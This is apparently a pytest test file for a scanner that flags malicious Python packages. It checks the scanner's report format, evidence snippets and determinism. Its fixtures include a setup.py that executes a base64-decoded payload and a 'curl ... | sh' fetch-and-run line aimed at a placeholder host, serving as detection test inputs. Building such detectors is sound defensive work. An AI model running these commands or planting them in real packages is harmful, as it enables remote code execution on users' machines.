"""The public API: report shape, evidence format, determinism, purity."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from stockade.core.threats import DEFAULT, Finding, Report, scan_bytes, scan_path
from tests.unit.threats.builders import b64, sdist, setup_py, wheel

MALICIOUS = sdist(
    {
        "setup.py": setup_py(
            f"import base64\nexec(base64.b64decode('{b64('print(1)')}'))  # \x1b[2J\tend"
        ),
        "demo/__init__.py": "",
    }
)


def test_report_shape() -> None:
    rep = scan_bytes(MALICIOUS, "demo-1.0.tar.gz")
    assert isinstance(rep, Report)
    assert rep.sha256 == hashlib.sha256(MALICIOUS).hexdigest()
    assert rep.filename == "demo-1.0.tar.gz"
    assert rep.verdict == "malicious"
    assert rep.score > 0
    assert rep.members >= 3
    assert rep.bytes_read > 0
    assert rep.elapsed >= 0
    d = rep.as_dict()
    assert list(d)[:5] == ["file", "sha256", "verdict", "score", "findings"]
    f0 = d["findings"][0]
    assert {"rule", "severity", "path", "line", "snippet"} <= set(f0)
    json.dumps(d)  # plain data


def test_findings_carry_evidence() -> None:
    rep = scan_bytes(MALICIOUS, "demo-1.0.tar.gz")
    f = next(x for x in rep.findings if x.rule == "exec-decoded-payload")
    assert isinstance(f, Finding)
    assert f.severity == "critical"
    assert f.path == "demo-1.0/setup.py"
    assert f.line == 3
    assert f.snippet.startswith("exec(base64.b64decode(")
    assert len(f.snippet) <= 200
    assert "\n" not in f.snippet and "\x1b" not in f.snippet and "\\x1b" in f.snippet
    assert f.message


def test_snippet_of_a_long_line_is_bounded() -> None:
    line = "x = '" + "A" * 5000 + "'; import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
    rep = scan_bytes(sdist({"demo/__init__.py": line + "\n"}), "d.tar.gz")
    assert rep.findings
    assert all(len(f.snippet) <= 200 and "\n" not in f.snippet for f in rep.findings)


def test_deterministic() -> None:
    a = scan_bytes(MALICIOUS, "demo-1.0.tar.gz")
    b = scan_bytes(MALICIOUS, "demo-1.0.tar.gz")
    assert (a.verdict, a.score, a.findings) == (b.verdict, b.score, b.findings)


def test_clean_wheel() -> None:
    rep = scan_bytes(wheel({"demo/__init__.py": "def add(a, b):\n    return a + b\n"}), "d.whl")
    assert rep.verdict == "clean"
    assert rep.score == 0
    assert rep.findings == ()


def test_single_python_file_and_non_archives() -> None:
    rep = scan_bytes(b"import os\nos.system('curl -s https://x.invalid/a | sh')\n", "setup.py")
    assert rep.verdict == "malicious"
    assert scan_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100), "logo.png").verdict == "clean"
    assert scan_bytes("naïve text".encode("latin-1"), "notes.txt").verdict == "clean"


def test_scan_path_reads_only_that_file(tmp_path: Path) -> None:
    p = tmp_path / "demo-1.0.tar.gz"
    p.write_bytes(MALICIOUS)
    before = sorted(os.listdir(tmp_path))
    rep = scan_path(p, DEFAULT)
    assert rep.filename == "demo-1.0.tar.gz"
    assert rep.verdict == "malicious"
    assert sorted(os.listdir(tmp_path)) == before  # nothing extracted or written


def test_scan_path_missing_file(tmp_path: Path) -> None:
    with pytest.raises(OSError):
        scan_path(tmp_path / "nope.whl")
